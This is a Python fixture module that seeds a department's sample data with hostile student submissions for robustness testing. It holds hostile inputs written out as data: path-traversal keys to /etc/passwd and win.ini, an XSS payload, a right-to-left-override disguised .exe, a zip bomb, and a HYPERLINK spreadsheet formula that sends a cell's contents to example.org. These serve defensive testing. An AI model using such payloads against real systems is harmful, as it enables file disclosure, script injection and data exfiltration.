"""Submissions that no program should choke on: broken files, paths that lead outside, titles that pretend."""

from dataclasses import dataclass

from edumanage_desktop.services.sample_department.files import FileKind


@dataclass(frozen=True, slots=True)
class HostileWork:
    """One hostile submission.

    Either `kind` makes its file, or `store_key` is what `file_path` says and no file is made for it. `links_outside`
    makes the key a symbolic link in the store. `in_main_queue` brings it to Dr. Nowak instead of Dr. Petrov.
    """

    title: str
    kind: FileKind = FileKind.PDF
    file_name: str | None = None
    store_key: str | None = None
    links_outside: bool = False
    in_main_queue: bool = False


HOSTILE_WORKS: tuple[HostileWork, ...] = (
    HostileWork("Optics report, transfer broke off", FileKind.TRUNCATED_PDF, "optics-report.pdf", in_main_queue=True),
    HostileWork("Drawing that never ends", FileKind.ENDLESS_PDF, "fractal.pdf"),
    HostileWork("Thesis draft (password by mail)", FileKind.ENCRYPTED_PDF, "thesis-draft.pdf", in_main_queue=True),
    HostileWork("Pages within pages", FileKind.LOOPING_PDF, "loop.pdf"),
    HostileWork("Poster in print resolution", FileKind.HUGE_PNG, "poster-60000.png"),
    HostileWork("All measurements, packed", FileKind.ZIP_BOMB, "measurements.zip"),
    HostileWork("Empty file", FileKind.EMPTY_PDF, "report.pdf", in_main_queue=True),
    HostileWork("A photo, half of it", FileKind.TRUNCATED_JPEG, "IMG_2041.JPG"),
    HostileWork("A script that calls itself a PDF", FileKind.SCRIPT_AS_PDF, "invoice.pdf.exe"),
    HostileWork("Climbing out of the store", store_key="../../etc/passwd"),
    HostileWork("An absolute path", store_key="/etc/passwd"),
    HostileWork("A Windows path", store_key="C:\\Windows\\win.ini"),
    HostileWork("A network share", store_key="\\\\server\\share\\report.pdf"),
    HostileWork("A device", store_key="uploads/CON"),
    HostileWork("An alternate stream", store_key="uploads/a.txt:stream"),
    HostileWork("A link that leads outside", store_key="uploads/linked-report.pdf", links_outside=True),
    HostileWork("A file that went missing", store_key="uploads/2026/gone-0001.pdf", in_main_queue=True),
    HostileWork("<b>Bold</b> <img src=x onerror=alert(1)><script>alert('title')</script> &amp; &lt;more&gt;"),
    HostileWork("Annual report \u202efdp.exe", file_name="report-\u202efdp.exe"),
    HostileWork("Bell \x07, escape \x1b[31mred\x1b[0m,\ttab,\nnew line,\r return, nothing \x00 and more"),
    HostileWork("Very long: " + "wavelengths and more wavelengths, " * 7 + "done."),
    HostileWork('=HYPERLINK("https://example.org/?"&A1,"Click")', file_name="=1+1.pdf"),
    HostileWork("Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358go \u200b\ufeff \U0001f469\u200d\U0001f52c"),
)
"""In the order of their usefulness, for samples that have room for only some."""
_OFTEN = 13


def hostile_places(first: int, end: int) -> dict[int, HostileWork]:
    """Return which submissions from `first` to before `end` are hostile: one in thirteen until all works are used."""
    count = min(len(HOSTILE_WORKS), (end - first) // _OFTEN)
    return {first + int((index + 0.6) * (end - first) / count): HOSTILE_WORKS[index] for index in range(count)}
